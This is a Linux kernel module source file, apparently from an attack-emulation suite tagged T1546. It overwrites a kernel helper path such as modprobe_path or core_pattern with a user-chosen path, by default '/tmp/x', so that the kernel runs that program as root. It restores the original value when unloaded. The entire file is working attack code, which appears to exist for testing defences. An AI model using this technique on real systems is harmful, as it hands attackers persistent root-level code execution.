// SPDX-License-Identifier: GPL-2.0-only
/* Changes the path of a program that the kernel starts by itself (T1546); undone at unload. */
#include "attack.h"

static char *name = "modprobe_path";
module_param(name, charp, 0444);
MODULE_PARM_DESC(name, "modprobe_path, core_pattern, poweroff_cmd, reboot_cmd, uevent_helper");
static char *value = "/tmp/x";
module_param(value, charp, 0444);
MODULE_PARM_DESC(value, "the new path");

static char saved[64], *path;

static int __init attack_init(void)
{
	path = (char *)attack_symbol(name);
	if (!path)
		return -ENOENT;
	if (strlen(value) >= sizeof(saved))
		return -EINVAL;
	memcpy(saved, path, sizeof(saved));
	attack_write(path, value, strlen(value) + 1);
	attack_log("name=%s at=0x%lx value=%s original=%.63s", name, (unsigned long)path, value,
		   saved);
	return 0;
}

static void __exit attack_exit(void)
{
	attack_write(path, saved, sizeof(saved));
	attack_log("restored name=%s", name);
}

module_init(attack_init);
module_exit(attack_exit);
